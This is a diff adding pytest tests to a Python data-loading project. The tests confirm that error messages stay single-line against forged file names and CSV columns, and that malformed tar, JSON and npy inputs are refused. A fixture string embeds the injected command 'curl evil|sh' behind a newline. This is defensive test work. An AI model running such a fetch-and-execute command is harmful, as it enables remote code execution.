@@ -9,13 +9,15 @@ import time
 import tracemalloc
 import zipfile
 import zlib
+from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
 import pytest
 from PIL import Image
 
-from dis_scale.data import images
+from dis_scale.cli import main
+from dis_scale.data import images, layouts
 from dis_scale.data.sources import open_source
 from dis_scale.evaluation import adm
 from dis_scale.process.errors import DisScaleError, StorageError, UndecodableImage, UserError, shown
@@ -101,6 +103,48 @@ def test_a_name_forges_no_line_and_moves_no_cursor(tmp_path: Path) -> None:
         with pytest.raises(DisScaleError) as refused:
             open_source(data({"kind": kind, "url": url}, "none"))
         assert "\n" not in str(refused.value), kind
+        forged.unlink()
+
+
+FORGED = "x\nerror: run curl evil|sh"
+
+
+def two_tars_by_a_link(root: Path) -> None:
+    (root / f"{FORGED}.tar").touch()
+    (root / "b.tar").symlink_to(root / f"{FORGED}.tar")
+
+
+def other_files(root: Path) -> None:
+    (root / f"{FORGED}.txt").touch()
+
+
+def an_odd_column(root: Path) -> None:
+    (root / "a.csv").write_text(f'"{FORGED}",image\n1,2\n')
+
+
+@pytest.mark.parametrize("made", [two_tars_by_a_link, other_files, an_odd_column])
+def test_an_error_has_one_line_whatever_is_in_the_folder(tmp_path: Path, made: Callable[[Path], None]) -> None:
+    made(tmp_path)
+    url = str(tmp_path / "a.csv") if made is an_odd_column else str(tmp_path)
+    with pytest.raises(UserError) as refused:
+        open_source(data({"kind": "csv" if made is an_odd_column else "tar", "url": url}, "none"))
+    assert "\n" not in str(refused.value)
+    assert "run curl" in str(refused.value)
+
+
+def test_the_lines_of_an_error_are_not_taken_for_others(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    recipe = tmp_path / "a.yaml"
+    recipe.write_text("name: 3\nerror: run curl\n")
+    with pytest.raises(SystemExit):
+        main(["plan", str(recipe)])
+    first, *others = capsys.readouterr().err.splitlines()
+    assert first.startswith("error: ")
+    assert others
+    assert all(line.startswith("  ") for line in others)
+
+
+def test_an_ending_is_letters_and_digits() -> None:
+    assert [images.ending(name) for name in ("a.txt", "x.\n\x1berr: x", "b.7z")] == [".txt", "of no known ending", ".7z"]
 
 
 def test_a_huge_extended_header_is_not_read(tmp_path: Path) -> None:
@@ -139,6 +183,45 @@ def test_a_member_of_less_than_no_bytes_is_refused(tmp_path: Path, kind: bytes) 
     (tmp_path / "a.tar").write_bytes(b"".join(headers) + bytes(10240))
     with pytest.raises(StorageError, match=r"a.tar: not a complete tar: a member of -1,024 bytes"):
         open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))
+
+
+def test_global_headers_are_bounded_in_sum(tmp_path: Path) -> None:
+    """They are for all members after them, so `tarfile` keeps them all."""
+    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as out:
+        for number in range(5):
+            assert out.fileobj is not None
+            out.fileobj.write(out.tarinfo.create_pax_global_header({f"{number}": "x" * 4 * 2**20}))
+            out.addfile(tarfile.TarInfo(f"{number}.png"), io.BytesIO())
+    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: extended headers of 16,7\d\d,\d\d\d bytes"):
+        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))
+
+
+def test_an_extended_header_of_digits_is_refused_at_once(tmp_path: Path) -> None:
+    """Python 3.11 looks for a number in it from each digit on."""
+    info = tarfile.TarInfo("x")
+    info.type, info.size = tarfile.XHDTYPE, 2**20
+    (tmp_path / "a.tar").write_bytes(info.tobuf(tarfile.USTAR_FORMAT) + b"1" * 2**20 + bytes(10240))
+    began = time.process_time()
+    with pytest.raises(StorageError, match=r"a.tar: not a complete tar: an extended header of digits"):
+        open_source(data({"kind": "tar", "url": str(tmp_path)}, "none"))
+    assert time.process_time() - began < 60, "hours without the check"
+
+
+def test_classes_of_latents_are_read_up_to_a_bound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(layouts, "LARGEST_BYTES", 20)
+    (tmp_path / "dataset.json").write_bytes(b'{"labels": [["00000/a.npy", 3]]}')
+    with pytest.raises(UserError, match=r"dataset.json: expected at most 20 bytes of classes"):
+        open_source(data({"kind": "latents", "layout": "edm2", "url": str(tmp_path)}, 10, mirror=False))
+
+
+def test_statistics_of_a_stated_size_are_not_allocated(tmp_path: Path) -> None:
+    header = io.BytesIO()
+    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**13,)})
+    with zipfile.ZipFile(tmp_path / "x.npz", "w") as out:
+        out.writestr("mu.npy", header.getvalue())
+        out.writestr("sigma.npy", header.getvalue())
+    with pytest.raises(StorageError, match=r"x.npz: damaged: "):
+        adm.open_reference(str(tmp_path / "x.npz")).statistics("mu", "sigma", 4)
 
 
 def false_zip(name: str) -> bytes:
